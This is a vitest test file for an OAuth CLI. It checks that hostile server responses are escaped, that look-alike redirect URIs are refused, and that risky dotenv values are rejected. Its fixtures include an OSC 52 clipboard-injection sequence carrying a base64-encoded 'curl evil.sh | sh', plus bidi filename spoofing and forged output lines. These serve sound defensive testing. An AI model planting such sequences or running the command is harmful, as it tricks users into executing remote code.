import { mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseEnv } from "node:util";
import { dotenvValue, formatCredentials } from "@polar-oauth/cli";
import dotenv from "dotenv";
import { expand } from "dotenv-expand";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli, startTinyServer } from "./support/cli.js";

/**
 * The CLI trusts no server text (issue 21, item 5). A tiny local server plays a hostile
 * `POLAR_SERVER`: what it sends is printed with every control, C1 and bidi character escaped
 * (no escape sequence, OSC 52 clipboard write or reordering reaches the terminal); the
 * redirect URI written is the one asked for, never the server's look-alike; dotenv values with
 * `$` read back unchanged through dotenv-expand and Docker Compose, or are refused.
 */
const body43 = (c: string) => c.repeat(43);
const CLIENT_ID = `polar_ci_${body43("a")}`;
const REGISTRATION_TOKEN = `polar_crt_${body43("c")}`;
const WELL_FORMED = {
  client_id: CLIENT_ID,
  client_secret: `polar_cs_${body43("b")}`,
  registration_access_token: REGISTRATION_TOKEN,
};
/** OSC 52 (set the clipboard), a CSI colour, the one-character C1 CSI, bidi overrides, a CR. */
const OSC52 = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
const HOSTILE_NAME = `Shop${OSC52}\u001b[8mhidden\u009b31m\u202egnp.exe\u2066x\u2069\rforged\nclient_secret: polar_cs_fake`;
const TERMINAL_CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: what must never reach a terminal
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

let storedRedirectUri: ((asked: string) => string) | undefined;
let readAnswer: Record<string, unknown> = {};
let registerError: { status: number; body: unknown } | undefined;
let server: Awaited<ReturnType<typeof startTinyServer>>;
beforeAll(async () => {
  server = await startTinyServer((request, body, response) => {
    if (request.method === "POST" && request.url === "/v1/oauth2/register") {
      if (registerError) {
        response.writeHead(registerError.status, { "content-type": "application/json" });
        response.end(JSON.stringify(registerError.body));
        return;
      }
      const metadata = JSON.parse(body) as { redirect_uris: string[] };
      const uris = metadata.redirect_uris.map(storedRedirectUri ?? ((uri) => uri));
      response.writeHead(201, { "content-type": "application/json" });
      response.end(
        JSON.stringify({
          ...metadata,
          ...WELL_FORMED,
          redirect_uris: uris,
          client_id_issued_at: 1,
          client_secret_expires_at: 0,
        }),
      );
      return;
    }
    if (request.method === "GET" && request.url === `/v1/oauth2/register/${CLIENT_ID}`) {
      response.writeHead(200, { "content-type": "application/json" });
      response.end(
        JSON.stringify({
          client_id: CLIENT_ID,
          client_name: "Shop",
          redirect_uris: ["https://shop.example.com/auth/callback"],
          token_endpoint_auth_method: "client_secret_post",
          grant_types: ["authorization_code", "refresh_token"],
          response_types: ["code"],
          scope: "openid email",
          client_id_issued_at: 1,
          client_secret_expires_at: 0,
          ...readAnswer,
        }),
      );
      return;
    }
    response.writeHead(404).end();
  });
});
afterAll(() => server.close());

const tempDir = () => mkdtemp(join(tmpdir(), "polar-oauth-server-text-"));

describe("server text reaching the terminal", () => {
  const getClient = (extra: string[] = []) =>
    tempDir().then((cwd) =>
      runCli(["clients", "get", ...extra], cwd, {
        POLAR_SERVER: server.url,
        POLAR_CLIENT_ID_DEV: CLIENT_ID,
        POLAR_REGISTRATION_TOKEN_DEV: REGISTRATION_TOKEN,
      }),
    );

  it("a client_name with OSC 52, CSI, C1, bidi overrides, CR and a newline prints as visible escapes", async () => {
    readAnswer = { client_name: HOSTILE_NAME, client_uri: `https://shop.example.com/${OSC52}` };
    const run = await getClient();
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(run.stdout).toContain("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07");
    expect(run.stdout).toContain("\\u202egnp.exe");
    expect(run.stdout).toContain("\\x9b31m");
    // No line forged: the server's newline stays inside the client_name line.
    expect(run.stdout.split("\n").filter((line) => /^\s*client_secret/.test(line))).toEqual([]);
    expect(run.stdout).toContain("\\x0dforged\\x0aclient_secret: polar_cs_fake");
  });

  it("--json keeps the value but escapes what a terminal would act on", async () => {
    readAnswer = { client_name: HOSTILE_NAME };
    const run = await getClient(["--json"]);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(JSON.parse(run.stdout).client_name).toBe(HOSTILE_NAME);
  });

  it("an error description with OSC 52, C1 and bidi controls reaches stderr without them", async () => {
    registerError = {
      status: 400,
      body: {
        error: "invalid_client_metadata",
        error_description: `bad${OSC52}\u009d52;c;aGk=\u009c \u202eevil\u2069 name`,
      },
    };
    try {
      const run = await runCli(
        ["bootstrap", "--redirect-uri", "https://shop.example.com/auth/callback", "--name", "Shop"],
        await tempDir(),
        { POLAR_SERVER: server.url },
      );
      expect(run.code).toBe(1);
      expect(run.stderr).toContain("invalid_client_metadata");
      expect(run.stderr + run.stdout).not.toMatch(TERMINAL_CONTROL);
    } finally {
      registerError = undefined;
    }
  });
});

describe("the redirect URI written is the one asked for", () => {
  const bootstrap = async (asked: string) => {
    const cwd = await tempDir();
    const run = await runCli(["bootstrap", "--redirect-uri", asked, "--name", "Shop"], cwd, {
      POLAR_SERVER: server.url,
    });
    const text = await readFile(join(cwd, ".env.development.local"), "utf8").catch(() => "");
    return { run, text, written: parseEnv(text) as Record<string, string> };
  };

  it.each([
    ["a fullwidth ｓ in the host", (uri: string) => uri.replace("shop", "ｓhop")],
    ["a soft hyphen in the host", (uri: string) => uri.replace("shop", "sh\u00adop")],
  ])("a server that stores it with %s: exit 1, the look-alike never written", async (_, alter) => {
    const asked = "https://shop.example.com/auth/callback";
    storedRedirectUri = alter;
    try {
      const { run, text, written } = await bootstrap(asked);
      expect(run.code).toBe(1);
      expect(run.stderr).toMatch(/is not the one asked for .*byte for byte, so it was not written/);
      expect(written.POLAR_REDIRECT_URI_DEV).toBeUndefined();
      expect(text).not.toContain(alter(asked));
      // The credentials Polar shows once are kept (their shapes were checked).
      expect(written.POLAR_CLIENT_SECRET_DEV).toBe(WELL_FORMED.client_secret);
      expect(run.stderr).not.toMatch(TERMINAL_CONTROL);
    } finally {
      storedRedirectUri = undefined;
    }
  });

  it.each([
    [
      "exactly as asked",
      "https://shop.example.com/auth/callback",
      "https://shop.example.com/auth/callback",
    ],
    [
      "Polar's normalisation of a bare host",
      "https://shop.example.com",
      "https://shop.example.com/",
    ],
    ["Polar's lowercased host", "https://Shop.Example.com/cb", "https://shop.example.com/cb"],
  ])(
    "stored %s: written as Polar stores it, computed from what was asked _guard_",
    async (_, asked, stored) => {
      storedRedirectUri = () => stored;
      try {
        const { run, written } = await bootstrap(asked);
        expect(run.code, run.stderr).toBe(0);
        expect(written.POLAR_REDIRECT_URI_DEV).toBe(stored);
      } finally {
        storedRedirectUri = undefined;
      }
    },
  );
});

describe("dotenv values with $", () => {
  /** What an app reads back: Node's parseEnv, dotenv + dotenv-expand, and the written form. */
  const readBack = (value: string) => {
    const text = `${formatCredentials([["VALUE", value]], "dotenv")}NEXT=1\n`;
    const parsed = dotenv.parse(text);
    const expanded = expand({ parsed: { ...parsed }, processEnv: { HOME: "/home/app", X: "x" } });
    return { text, node: parseEnv(text), dotenv: parsed, expanded: expanded.parsed };
  };

  it.each(["a$1", "cost: 5$", "$-x", "$ alone"])(
    "%j is single-quoted and reads back unchanged through parseEnv, dotenv and dotenv-expand",
    (value) => {
      const { text, node, dotenv: parsed, expanded } = readBack(value);
      // Single quotes: Docker Compose takes the value literally (no interpolation).
      expect(text.startsWith(`VALUE='${value}'\n`)).toBe(true);
      expect(node).toEqual({ VALUE: value, NEXT: "1" });
      expect(parsed).toEqual({ VALUE: value, NEXT: "1" });
      expect(expanded).toEqual({ VALUE: value, NEXT: "1" });
    },
  );

  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal ${…} is what is refused
  it.each(["dollar $HOME", "a${X}b", "${X:-default}", "a\\$b", "$_private"])(
    "%j would be changed by dotenv-expand: refused, never written",
    (value) => {
      expect(() => dotenvValue(value, "SESSION_SECRET")).toThrow(
        /Refusing to write SESSION_SECRET: .*dotenv-expand/,
      );
      expect(() => formatCredentials([["X", value]], "dotenv")).toThrow(/Refusing to write X/);
    },
  );

  it("a file merge refuses it too, leaving the file as it was", async () => {
    const { writeDotenvFile } = await import("@polar-oauth/cli");
    const path = join(await tempDir(), ".env");
    await writeFile(path, "KEEP=1\n", { mode: 0o600 });
    await expect(writeDotenvFile(path, [["SESSION_SECRET", "s3cr$HOME"]])).rejects.toThrow(
      /dotenv-expand/,
    );
    expect(await readFile(path, "utf8")).toBe("KEEP=1\n");
  });
});
